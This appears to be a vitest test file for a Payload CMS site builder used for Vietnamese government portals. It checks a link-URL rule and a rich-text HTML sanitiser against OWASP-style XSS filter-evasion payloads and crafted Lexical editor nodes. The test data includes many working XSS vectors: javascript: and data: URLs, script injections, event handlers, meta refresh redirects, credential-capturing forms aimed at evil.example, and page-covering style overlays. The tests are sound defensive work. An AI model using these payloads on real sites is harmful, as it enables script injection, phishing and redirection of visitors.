import { convertLexicalToHTML } from '@payloadcms/richtext-lexical/html'
import { parseDocument } from 'htmlparser2'
import type { ChildNode, Element } from 'domhandler'
import { describe, expect, it } from 'vitest'
import { isSafeLinkUrl, LINK_URL_RULE } from '../../contract/link-url'
import { linkUrlValidator } from '../../cms/fields/link-url'
import { findUnsafeRichTextLink } from '../../cms/fields/rich-text'
import { PROSE_STYLE_PROPERTIES, PROSE_TAGS, safeLinkUrl, sanitizeRichText } from '../../sites/sanitize-html'

/**
 * The link rule (cms/fields/link-url.ts) and the rich text sanitiser of the sites
 * (sites/sanitize-html.ts), against payloads in the style of the OWASP XSS filter evasion
 * cheat sheet, and against Lexical documents with crafted node attributes run through the
 * real converter the exporter uses.
 */

// ---------------------------------------------------------------------------------------------
// What "no active content" means, checked on the parsed output and on the raw text
// ---------------------------------------------------------------------------------------------

const ALLOWED_TAGS: ReadonlySet<string> = new Set(PROSE_TAGS)

const elements = (nodes: ChildNode[]): Element[] =>
  nodes.flatMap((n) =>
    'children' in n && 'name' in n
      ? [n as Element, ...elements((n as Element).children)]
      : 'children' in n
        ? elements((n as { children: ChildNode[] }).children)
        : [],
  )

/** Every problem an output has; empty when it carries no active content. */
const activeContent = (html: string): string[] => {
  const problems: string[] = []
  for (const el of elements(parseDocument(html).children)) {
    if (!ALLOWED_TAGS.has(el.name)) problems.push(`element <${el.name}>`)
    for (const [name, value] of Object.entries(el.attribs)) {
      if (/^on/i.test(name)) problems.push(`handler ${name}`)
      if (['id', 'name', 'class', 'srcdoc', 'formaction', 'action', 'xmlns', 'http-equiv'].includes(name))
        problems.push(`attribute ${name}`)
      if (name === 'href' && !isSafeLinkUrl(value)) problems.push(`href ${value}`)
      if ((name === 'src' || name === 'srcset') && !/^\/(?!\/)/.test(value)) problems.push(`${name} ${value}`)
      if (name === 'style') {
        for (const decl of value.split(';').filter((d) => d.trim())) {
          const prop = decl.split(':')[0]!.trim().toLowerCase()
          if (!PROSE_STYLE_PROPERTIES.has(prop)) problems.push(`style ${prop}`)
          if (/url\s*\(|expression|@import|\\/i.test(decl)) problems.push(`style value ${decl}`)
        }
      }
    }
    if (el.name === 'a' && el.attribs.target === '_blank' && !/noopener/.test(el.attribs.rel ?? ''))
      problems.push('target=_blank without noopener')
  }
  // The raw text too, in case a parser difference hid something from the walk above.
  if (
    /<\s*\/?\s*(script|style|iframe|object|embed|meta|base|form|svg|math|link|frame|input|button|textarea)\b/i.test(
      html,
    )
  )
    problems.push('raw dangerous tag')
  if (/\son[a-z]+\s*=/i.test(html.replace(/>[^<]*</g, '><'))) problems.push('raw handler')
  if (/(?:href|src|srcset|action)\s*=\s*["']?\s*(?:javascript|vbscript|data|livescript):/i.test(html))
    problems.push('raw script URL')
  return problems
}

// ---------------------------------------------------------------------------------------------
// The link rule
// ---------------------------------------------------------------------------------------------

const REFUSED_LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\u200b:alert(1)',
  '\u202ejavascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'ftp://angiang.gov.vn/',
  'blob:https://angiang.gov.vn/x',
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '\\/evil.example',
  'https:\\\\evil.example',
  'https:/evil.example',
  'https://',
  'http:///evil',
  'https:evil.example',
  'evil.example',
  'www.evil.example',
  'tin-tuc/',
  './tin-tuc',
  '../tin-tuc',
  '?a=1',
  'mailto:',
  'tel:',
  'tel:javascript:alert(1)',
  'tel:+84 296',
  '/tin tuc',
  'https://angiang.gov.vn/ x',
  '',
  `/${'a'.repeat(3000)}`,
]

const ACCEPTED_LINKS = [
  'https://dichvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh-chi-tiet.html?ma_thu_tuc=1.001193',
  'http://angiang.gov.vn',
  'HTTPS://ANGIANG.GOV.VN/tin-tuc',
  'https://xn--an-giang-7za.vn/a#b',
  'mailto:ubnd@angiang.gov.vn',
  'mailto:ubnd@angiang.gov.vn?subject=G%C3%B3p%20%C3%BD',
  'tel:+842963852000',
  'tel:0296-385-2000',
  '/',
  '/tin-tuc/',
  '/gioi-thieu/lich-su/?a=1#b',
  '#noi-dung',
]

describe('the link rule (every URL field, and links in rich text)', () => {
  it.each(ACCEPTED_LINKS)('accepts %s', (url) => {
    expect(isSafeLinkUrl(url)).toBe(true)
  })

  it.each(REFUSED_LINKS)('refuses %j', (url) => {
    expect(isSafeLinkUrl(url)).toBe(false)
  })

  it('refuses what is not text', () => {
    for (const value of [null, undefined, 1, {}, ['https://a.vn'], { toString: () => 'https://a.vn' }])
      expect(isSafeLinkUrl(value)).toBe(false)
  })

  it('https-only fields (portal links, social accounts) take https to a host and nothing else', () => {
    expect(isSafeLinkUrl('https://dichvucong.gov.vn/', { httpsOnly: true })).toBe(true)
    for (const url of [
      'http://dichvucong.gov.vn/',
      '/thu-tuc/',
      '#a',
      'mailto:a@b.vn',
      'tel:1900',
      'https://',
      'javascript:alert(1)',
    ])
      expect(isSafeLinkUrl(url, { httpsOnly: true }), url).toBe(false)
  })

  it('the field validator names the field in Vietnamese, and lets an empty optional field pass', () => {
    const validate = linkUrlValidator('Liên kết (Menu chính)') as (
      v: unknown,
      o: { required?: boolean },
    ) => string | true
    expect(validate('/tin-tuc/', { required: true })).toBe(true)
    expect(validate('javascript:alert(1)', { required: true })).toBe(`Liên kết (Menu chính): ${LINK_URL_RULE}`)
    expect(LINK_URL_RULE).toBe('chỉ chấp nhận địa chỉ http(s), mailto:, tel: hoặc đường dẫn bắt đầu bằng / (hoặc #).')
    expect(validate('', { required: true })).toBe('Liên kết (Menu chính): bắt buộc.')
    expect(validate(null, {})).toBe(true)
    const https = linkUrlValidator('Liên kết Cổng Dịch vụ công quốc gia', { httpsOnly: true }) as (
      v: unknown,
      o: object,
    ) => string | true
    expect(https('http://dichvucong.gov.vn/', {})).toBe(
      'Liên kết Cổng Dịch vụ công quốc gia: cần một địa chỉ https:// hợp lệ.',
    )
  })

  it("does not fail the build workers' site-state write over a link stored before the rule (the generator drops it)", () => {
    const validate = linkUrlValidator('Mạng xã hội', { httpsOnly: true }) as (v: unknown, o: object) => string | true
    expect(validate('http://facebook.com/xa', { req: { context: { siteState: true, skipAudit: true } } })).toBe(true)
    expect(validate('http://facebook.com/xa', { req: { context: {} } })).toBe(
      'Mạng xã hội: cần một địa chỉ https:// hợp lệ.',
    )
  })

  it('the generator keeps a safe link and drops any other', () => {
    expect(safeLinkUrl('/tin-tuc/')).toBe('/tin-tuc/')
    expect(safeLinkUrl('java\tscript:alert(1)')).toBeNull()
    expect(safeLinkUrl('http://x.vn', { httpsOnly: true })).toBeNull()
  })

  it('finds a bad link anywhere in a Lexical document, and ignores internal links', () => {
    const doc = (fields: object) => ({
      root: {
        type: 'root',
        children: [
          {
            type: 'paragraph',
            children: [
              {
                type: 'list',
                children: [
                  {
                    type: 'listitem',
                    children: [{ type: 'link', fields, children: [{ type: 'text', text: 'Bấm vào đây' }] }],
                  },
                ],
              },
            ],
          },
        ],
      },
    })
    expect(findUnsafeRichTextLink(doc({ linkType: 'custom', url: 'https://angiang.gov.vn/' }))).toBeNull()
    expect(findUnsafeRichTextLink(doc({ linkType: 'custom', url: ' javascript:alert(1)' }))).toEqual({
      url: ' javascript:alert(1)',
      text: 'Bấm vào đây',
    })
    expect(findUnsafeRichTextLink(doc({ url: 'data:text/html,x' }))).not.toBeNull()
    expect(findUnsafeRichTextLink(doc({ linkType: 'internal', doc: { relationTo: 'posts', value: 1 } }))).toBeNull()
    expect(
      findUnsafeRichTextLink({
        root: { children: [{ type: 'autolink', fields: { url: 'vbscript:x' }, children: [] }] },
      }),
    ).not.toBeNull()
    expect(findUnsafeRichTextLink(null)).toBeNull()
  })
})

// ---------------------------------------------------------------------------------------------
// The sanitiser, on hand-written HTML (OWASP filter evasion style)
// ---------------------------------------------------------------------------------------------

const ACTIVE_PAYLOADS: [string, string][] = [
  ['script element', '<script>alert(1)</script>'],
  ['script, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script split by a null', '<scr\u0000ipt>alert(1)</script>'],
  ['nested script', '<<script>script>alert(1)<</script>/script>'],
  ['script with extra attributes', '<script/XSS src="//evil.example/x.js"></script>'],
  ['unclosed script', '<script src=//evil.example/x.js?< B >'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, no quotes or spaces', '<img/src=x/onerror=alert(1)>'],
  ['img javascript: src', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['img javascript: src with tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
  ['img javascript: src with encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
  ['img javascript: src with encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
  [
    'img decimal entities',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ],
  [
    'img long decimal entities',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
  ],
  ['img hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>'],
  ['img spaces and meta before javascript:', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
  ['img dynsrc / lowsrc', '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">'],
  ['img from another host (tracking pixel)', '<img src="https://evil.example/pixel.gif" alt="">'],
  ['img protocol-relative', '<img src="//evil.example/a.png" alt="">'],
  ['img data: URL', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="">'],
  ['img srcset from another host', '<img src="/media/a.jpg" srcset="https://evil.example/a.jpg 1x" alt="a">'],
  ['a javascript: href', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript: href, mixed case and spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['a javascript: href, entity-encoded colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['a javascript: href, entity-encoded letters', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['a javascript: href with a tab entity', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['a javascript: href with a newline entity', '<a href="java&NewLine;script:alert(1)">x</a>'],
  ['a vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a protocol-relative href', '<a href="//evil.example">x</a>'],
  ['a backslash href', '<a href="/\\evil.example">x</a>'],
  ['a onclick', '<a href="/" onclick="alert(1)">x</a>'],
  ['a target without noopener', '<a href="https://evil.example" target="_blank">x</a>'],
  ['a target to a named window', '<a href="/" target="tab">x</a>'],
  ['a formaction / ping', '<a href="/" ping="https://evil.example/">x</a>'],
  ['body onload', '<body onload=alert(1)>'],
  ['svg onload', '<svg/onload=alert(1)>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['math with href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  [
    'meta refresh with data:',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  ],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['style element', '<style>body{display:none}</style>'],
  ['style @import', '<style>@import "https://evil.example/x.css";</style>'],
  [
    'style attribute covering the page',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white">Trang đã chuyển</div>',
  ],
  ['style attribute with url()', '<p style="background-image:url(javascript:alert(1))">x</p>'],
  ['style attribute with expression()', '<p style="width:expression(alert(1))">x</p>'],
  ['style attribute with escapes', '<p style="background:\\75rl(https://evil.example)">x</p>'],
  [
    'cell background with url()',
    '<table><tr><td style="background-color:url(https://evil.example)">x</td></tr></table>',
  ],
  [
    'form',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Gửi</button></form>',
  ],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio', '<audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript with a closing trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
  ['title breakout', '<title></title><script>alert(1)</script>'],
  ['comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['attribute breaking quote', '<p title="a" onmouseover="alert(1)">x</p>'],
  ['class and id (clobbering, CSS hooks)', '<p class="modal-overlay" id="location" name="alert">x</p>'],
  ['xmlns / xlink', '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['td with handler', '<table><tr><td onmouseover="alert(1)" colspan="2 onclick=alert(1)">x</td></tr></table>'],
  ['blockquote cite', '<blockquote cite="javascript:alert(1)">x</blockquote>'],
  [
    'picture source from another host',
    '<picture><source srcset="https://evil.example/a.webp" type="image/webp"><img src="/media/a.jpg" alt="a"></picture>',
  ],
  ['unknown element with handler', '<x-evil onclick="alert(1)">x</x-evil>'],
  ['half-open tag', '<img src="/media/a.jpg" alt="a" onerror="alert(1)"'],
]

describe('the rich text sanitiser refuses active content', () => {
  it('the checker itself sees active content (so a pass means something)', () => {
    for (const bad of [
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      '<script>alert(1)</script>',
      '<p style="position:fixed">x</p>',
      '<p class="x">x</p>',
      '<img src="https://evil.example/a.png">',
      '<a href="/" target="_blank">x</a>',
    ])
      expect(activeContent(bad), bad).not.toEqual([])
  })

  it.each(ACTIVE_PAYLOADS)('%s', (_name, payload) => {
    const out = sanitizeRichText(payload)
    expect(activeContent(out), out).toEqual([])
  })

  it('a second pass changes nothing (the output is stable)', () => {
    for (const [, payload] of ACTIVE_PAYLOADS) {
      const once = sanitizeRichText(payload)
      expect(sanitizeRichText(once)).toBe(once)
    }
  })
})

describe('the rich text sanitiser keeps legitimate formatting', () => {
  it('headings, paragraphs, emphasis, lists, quotes, tables, links, images and Vietnamese text', () => {
    const legit = [
      '<h2>Tiêu đề</h2><h3>Mục</h3>',
      '<p style="text-align:center;padding-inline-start:40px"><strong>đậm</strong> <em>nghiêng</em> <span style="text-decoration:underline">gạch chân</span> <span style="text-decoration:line-through">gạch ngang</span> <code>mã</code> H<sub>2</sub>O x<sup>2</sup></p>',
      '<ul><li>Một</li><li>Hai</li></ul><ol><li>Thứ nhất</li></ol>',
      '<blockquote>Trích dẫn</blockquote><hr />',
      '<table style="border-collapse:collapse"><tbody><tr><th colspan="2" style="border:1px solid #ccc;padding:8px">Cột</th></tr><tr><td style="background-color:#fffbcc">Ô</td><td rowspan="2">Ô</td></tr></tbody></table>',
      '<p><a href="https://dichvucong.gov.vn/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">Cổng</a> <a href="/tin-tuc/">Tin</a> <a href="mailto:ubnd@angiang.gov.vn">Thư</a> <a href="tel:+842963852000">Gọi</a> <a href="#muc-1">Mục 1</a></p>',
      '<picture><source media="(max-width: 800px)" srcset="/media/a-800x450.webp" type="image/webp" /><img alt="Ảnh hội nghị" height="675" src="/media/a.jpg" width="1200" /></picture>',
    ]
    for (const html of legit) {
      const out = sanitizeRichText(html)
      expect(activeContent(out), out).toEqual([])
      // Same elements and text after sanitising (attributes may be reordered or normalised).
      const shape = (h: string) =>
        elements(parseDocument(h).children)
          .map((e) => e.name)
          .join(',')
      expect(shape(out), out).toBe(shape(html))
      expect(
        parseDocument(out)
          .children.map((c) => ('data' in c ? c.data : ''))
          .join(''),
      ).toBe(
        parseDocument(html)
          .children.map((c) => ('data' in c ? c.data : ''))
          .join(''),
      )
      for (const word of ['Tiêu đề', 'đậm', 'Thứ nhất', 'Trích dẫn', 'Cột', 'Cổng', 'Ảnh hội nghị'])
        if (html.includes(word)) expect(out).toContain(word)
    }
    expect(sanitizeRichText('<p><a href="https://a.vn/" target="_blank">x</a></p>')).toBe(
      '<p><a href="https://a.vn/" target="_blank" rel="noopener noreferrer">x</a></p>',
    )
  })

  it('a refused link keeps its text; a refused image is dropped whole; an image always has alt', () => {
    expect(sanitizeRichText('<p><a href="javascript:alert(1)">Bấm vào đây</a></p>')).toBe(
      '<p><span>Bấm vào đây</span></p>',
    )
    expect(sanitizeRichText('<p><img src="https://evil.example/a.png" alt="a">x</p>')).toBe('<p>x</p>')
    expect(sanitizeRichText('<img src="/media/a.jpg">')).toBe('<img src="/media/a.jpg" alt="" />')
  })
})

// ---------------------------------------------------------------------------------------------
// The real Lexical converter with crafted node attributes, then the sanitiser (sites/export.ts)
// ---------------------------------------------------------------------------------------------

const XSS = '" onmouseover="alert(1)" style="position:fixed;inset:0;z-index:99999" x="'
const text = (t: string, format: unknown = 0) => ({
  type: 'text',
  text: t,
  format,
  detail: 0,
  mode: 'normal',
  style: '',
  version: 1,
})
const paragraph = (children: unknown[], extra: object = {}) => ({
  type: 'paragraph',
  format: '',
  indent: 0,
  version: 1,
  direction: 'ltr',
  textFormat: 0,
  children,
  ...extra,
})
const lexical = (children: unknown[]) => ({
  root: { type: 'root', format: '', indent: 0, version: 1, direction: 'ltr', children },
})
const exportHtml = (children: unknown[]) =>
  sanitizeRichText(convertLexicalToHTML({ data: lexical(children) as never, disableContainer: true }))
const cell = (extra: object, content = 'Ô') => ({
  type: 'tablecell',
  headerState: 0,
  colSpan: 1,
  rowSpan: 1,
  version: 1,
  children: [paragraph([text(content)])],
  ...extra,
})
const table = (cells: unknown[]) => ({
  type: 'table',
  version: 1,
  children: [{ type: 'tablerow', version: 1, children: cells }],
})
const link = (fields: object, label = 'Liên kết') => ({ type: 'link', version: 3, fields, children: [text(label)] })

const CRAFTED_LEXICAL: [string, unknown[]][] = [
  ['table cell headerState', [table([cell({ headerState: `1${XSS}` })])]],
  ['table cell headerState as a closing tag', [table([cell({ headerState: '1"><script>alert(1)</script><td x="' })])]],
  ['table cell colSpan / rowSpan', [table([cell({ colSpan: `3${XSS}`, rowSpan: ['2" onclick="alert(1)'] })])]],
  [
    'table cell backgroundColor',
    [table([cell({ backgroundColor: `red;background-image:url(https://evil.example/x)` })])],
  ],
  [
    'table row / table extra attributes',
    [
      {
        type: 'table',
        version: 1,
        style: XSS,
        children: [{ type: 'tablerow', version: 1, height: XSS, children: [cell({})] }],
      },
    ],
  ],
  ['heading tag', [{ type: 'heading', tag: `h2${XSS}`, version: 1, children: [text('x')] }]],
  ['heading tag "script"', [{ type: 'heading', tag: 'script', version: 1, children: [text('alert(1)')] }]],
  ['paragraph format', [paragraph([text('x')], { format: `center${XSS}` })]],
  ['paragraph indent', [paragraph([text('x')], { indent: `1${XSS}` })]],
  [
    'paragraph textFormat / textStyle / direction',
    [paragraph([text('x')], { textFormat: XSS, textStyle: XSS, direction: XSS })],
  ],
  ['text format', [paragraph([text('x', `1${XSS}`), { ...text('y'), style: 'position:fixed;inset:0' }])]],
  ['text with markup', [paragraph([text('<script>alert(1)</script><img src=x onerror=alert(1)>')])]],
  [
    'list tag and listType',
    [
      {
        type: 'list',
        tag: `ul${XSS}`,
        listType: `bullet${XSS}`,
        start: XSS,
        version: 1,
        children: [{ type: 'listitem', value: `1${XSS}`, version: 1, children: [text('x')] }],
      },
    ],
  ],
  [
    'check list item',
    [
      {
        type: 'list',
        tag: 'ul',
        listType: 'check',
        version: 1,
        children: [{ type: 'listitem', value: 1, checked: XSS, version: 1, children: [text('x')] }],
      },
    ],
  ],
  ['link url javascript:', [paragraph([link({ linkType: 'custom', url: 'javascript:alert(1)' })])]],
  ['link url obfuscated', [paragraph([link({ linkType: 'custom', url: ' jAvA\tsCrIpT:alert(1)' })])]],
  [
    'link url data:',
    [paragraph([link({ linkType: 'custom', url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' })])],
  ],
  ['link url breaking the attribute', [paragraph([link({ linkType: 'custom', url: `https://a.vn/${XSS}` })])]],
  ['link url protocol-relative', [paragraph([link({ linkType: 'custom', url: '//evil.example/' })])]],
  [
    'link rel / target / newTab',
    [paragraph([link({ linkType: 'custom', url: '/', newTab: XSS, rel: XSS, target: XSS })])],
  ],
  [
    'internal link with a crafted doc',
    [paragraph([link({ linkType: 'internal', doc: { relationTo: 'posts', value: `1${XSS}` } })])],
  ],
  [
    'autolink',
    [paragraph([{ type: 'autolink', version: 2, fields: { url: 'javascript:alert(1)' }, children: [text('x')] }])],
  ],
  [
    'upload node with crafted media',
    [
      {
        type: 'upload',
        version: 3,
        relationTo: 'media',
        value: {
          url: `javascript:alert(1)${XSS}`,
          alt: XSS,
          mimeType: 'image/png',
          filename: XSS,
          width: XSS,
          height: 1,
          sizes: {
            x: {
              url: 'https://evil.example/x.png',
              width: 1,
              height: 1,
              mimeType: `image/png${XSS}`,
              filesize: 1,
              filename: 'x',
            },
          },
        },
        fields: { alt: XSS },
      },
    ],
  ],
  [
    'upload node that is not an image',
    [
      {
        type: 'upload',
        version: 3,
        relationTo: 'media',
        value: { url: 'javascript:alert(1)', mimeType: 'application/pdf', filename: XSS },
        fields: {},
      },
    ],
  ],
  ['relationship node', [{ type: 'relationship', version: 2, relationTo: XSS, value: { id: XSS } }]],
  ['unknown node type', [{ type: '<script>alert(1)</script>', version: 1, children: [text('x')] }]],
  ['block node', [{ type: 'block', version: 2, fields: { blockType: XSS, html: '<script>alert(1)</script>' } }]],
]

describe('Lexical documents with crafted attributes, through the exporter’s converter and sanitiser', () => {
  it.each(CRAFTED_LEXICAL)('%s', (_name, children) => {
    const out = exportHtml(children)
    expect(activeContent(out), out).toEqual([])
    // Within the markup itself (the text may say anything: it is escaped).
    const tags = (out.match(/<[^>]*>/g) ?? []).join('')
    expect(tags).not.toMatch(/position\s*:|z-index|evil\.example|alert|onmouseover|onerror|onclick/i)
  })

  it('the converter alone is not enough (why the sanitiser exists)', () => {
    const raw = convertLexicalToHTML({
      data: lexical([table([cell({ headerState: `1${XSS}` })])]) as never,
      disableContainer: true,
    })
    expect(raw).toContain('onmouseover="alert(1)"')
  })

  it('what an editor really writes comes through whole', () => {
    const out = exportHtml([
      {
        type: 'heading',
        tag: 'h2',
        format: '',
        indent: 0,
        version: 1,
        direction: 'ltr',
        children: [text('Kế hoạch tiêm chủng')],
      },
      paragraph([text('Lịch ', 0), text('quan trọng', 1), text(' và ', 0), text('lưu ý', 2), text(' gạch chân', 8)], {
        format: 'justify',
        indent: 1,
      }),
      {
        type: 'list',
        tag: 'ol',
        listType: 'number',
        start: 1,
        version: 1,
        children: [
          { type: 'listitem', value: 1, version: 1, children: [text('Bước một')] },
          { type: 'listitem', value: 2, version: 1, children: [text('Bước hai')] },
        ],
      },
      {
        type: 'list',
        tag: 'ul',
        listType: 'bullet',
        start: 1,
        version: 1,
        children: [{ type: 'listitem', value: 1, version: 1, children: [text('Ý chính')] }],
      },
      { type: 'quote', version: 1, children: [text('Trích lời Chủ tịch')] },
      table([cell({ headerState: 1 }, 'Thời gian'), cell({ headerState: 1, backgroundColor: '#ffeeaa' }, 'Địa điểm')]),
      paragraph([
        link({ linkType: 'custom', url: 'https://dichvucong.gov.vn/', newTab: true }, 'Cổng Dịch vụ công'),
        text(' hoặc '),
        link({ linkType: 'custom', url: '/thong-bao/' }, 'thông báo'),
      ]),
      {
        type: 'upload',
        version: 3,
        relationTo: 'media',
        value: {
          url: '/media/hoi-nghi.jpg',
          alt: 'Hội nghị',
          mimeType: 'image/jpeg',
          filename: 'hoi-nghi.jpg',
          width: 1200,
          height: 675,
        },
        fields: {},
      },
      { type: 'horizontalrule', version: 1 },
    ])
    expect(activeContent(out), out).toEqual([])
    expect(out).toContain('<h2>Kế hoạch tiêm chủng</h2>')
    expect(out).toContain(
      '<p style="text-align:justify;padding-inline-start:40px">Lịch <strong>quan trọng</strong> và <em>lưu ý</em><span style="text-decoration:underline"> gạch chân</span></p>',
    )
    expect(out).toMatch(/<ol><li>Bước một<\/li><li>Bước hai<\/li><\/ol><ul><li>Ý chính<\/li><\/ul>/)
    expect(out).toContain('<blockquote>Trích lời Chủ tịch</blockquote>')
    expect(out).toMatch(
      /<table style="border-collapse:collapse">[\s\S]*<th style="border:1px solid #ccc;padding:8px">[\s\S]*Thời gian[\s\S]*<th style="border:1px solid #ccc;padding:8px;background-color:#ffeeaa">/,
    )
    expect(out).toContain(
      '<a href="https://dichvucong.gov.vn/" target="_blank" rel="noopener noreferrer">Cổng Dịch vụ công</a>',
    )
    expect(out).toContain('<a href="/thong-bao/">thông báo</a>')
    expect(out).toMatch(
      /<img alt="Hội nghị" height="675" src="\/media\/hoi-nghi.jpg" width="1200" \/>|<img[^>]*src="\/media\/hoi-nghi.jpg"[^>]*>/,
    )
    expect(out).toContain('<hr />')
  })
})
